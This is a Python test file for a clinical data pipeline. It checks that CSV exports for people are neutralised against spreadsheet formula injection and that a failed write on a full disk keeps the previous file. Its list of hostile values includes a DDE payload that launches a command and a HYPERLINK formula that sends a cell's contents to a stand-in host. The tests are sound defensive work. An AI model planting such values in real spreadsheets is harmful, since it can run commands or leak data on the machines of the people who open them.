"""Files for people: one neutralising function for every CSV written, written whole."""

from __future__ import annotations

import csv
import errno

import polars as pl
import pytest

from cohortflow.errors import StorageError
from transforms import warehouse
from transforms.quality.store import write_queries
from transforms.staging.spreadsheet import spreadsheet_safe, write_csv_for_people

HOSTILE = [
    '=HYPERLINK("http://x.test/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\rfoo",
]


def test_spreadsheet_safe_neutralises_every_formula_start_and_keeps_plain_numbers():
    """It prefixes what a spreadsheet would run; '-3', '+2.5' or 'a-b' are left as they are."""
    frame = pl.DataFrame({"v": [*HOSTILE, "-3", "+2.5", " 12 ", "a-b", "ok", None]})
    assert spreadsheet_safe(frame)["v"].to_list() == [
        *("'" + v for v in HOSTILE),
        "-3",
        "+2.5",
        " 12 ",
        "a-b",
        "ok",
        None,
    ]


def _cells(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_quarantine_csv_is_spreadsheet_safe(tmp_path):
    """It writes a quarantined value and its message from an export as text, never a formula."""
    con = warehouse.connect(tmp_path / "w.duckdb")
    con.execute(
        "INSERT INTO quarantine (file_hash, centre_id, form, file_name, source_row, record, "
        "patient_key, column_name, source_column, rule, value, message, run_id) VALUES "
        "('h', 'C01', 'follow_up', 'f.csv', 2, 1, 'p1', 'nprs', 'nprs', 'type: an integer', "
        "?, ?, 'run-1')",
        [HOSTILE[1], "=1+1 is not an integer"],
    )
    path = tmp_path / "reports" / "run-1" / "quarantine.csv"
    assert warehouse.write_run_quarantine(con, "run-1", path) == 1
    header, row = _cells(path)
    assert row[header.index("value")] == "'" + HOSTILE[1]
    assert row[header.index("message")] == "'=1+1 is not an integer"
    assert [p.name for p in path.parent.iterdir()] == ["quarantine.csv"]  # no temporary left
    con.close()


def test_query_files_are_spreadsheet_safe(tmp_path):
    """It neutralises a query's value and problem (they may quote an export) in each file."""
    from transforms.quality.store import QUERY_FILE_COLUMNS

    rows = {
        "centre_id": ["C01", "C02"],
        "query_id": ["Q1", "Q2"],
        "kind": ["to fix"] * 2,
        "patient_key": ["p1", "p2"],
        "month": [3, None],
        "form": ["follow_up", "inclusion"],
        "field": ["nprs", "file"],
        "file_name": ["a.csv", "b.csv"],
        "source_row": [4, 1],
        "problem": ["out of range", '=HYPERLINK("x") could not be read'],
        "value": ["@SUM(A1)", None],
        "allowed": ["0 to 10", ""],
        "opened_at": [None, None],
        "nights_open": [1, 1],
        "escalated": [False, False],
        "is_new": [True, True],
    }
    queries = pl.DataFrame(rows)
    assert set(QUERY_FILE_COLUMNS) <= set(queries.columns)
    paths = write_queries(queries, tmp_path / "queries")
    c01, c02 = _cells(paths["C01"]), _cells(paths["C02"])
    assert c01[1][c01[0].index("value")] == "'@SUM(A1)"
    assert c02[1][c02[0].index("problem")] == '\'=HYPERLINK("x") could not be read'


def test_write_csv_for_people_on_a_full_disk_keeps_the_old_file_and_names_the_path(
    tmp_path, monkeypatch
):
    """It raises one StorageError naming the file; the previous file stays, no temporary."""
    path = tmp_path / "quarantine.csv"
    write_csv_for_people(pl.DataFrame({"v": ["old"]}), path)

    def full(self, file, **options):
        file.write_bytes(b"half a fi")  # what a full disk leaves behind
        raise OSError("No space left on device (os error 28)")  # as polars words it

    monkeypatch.setattr(pl.DataFrame, "write_csv", full)
    with pytest.raises(StorageError) as failed:
        write_csv_for_people(pl.DataFrame({"v": ["new"]}), path)
    assert str(failed.value) == (
        f"cannot write {path}: no space left on the device; free some space there and run again"
    )
    assert failed.value.code == errno.ENOSPC
    assert path.read_text() == "v\nold\n"
    assert [p.name for p in tmp_path.iterdir()] == ["quarantine.csv"]
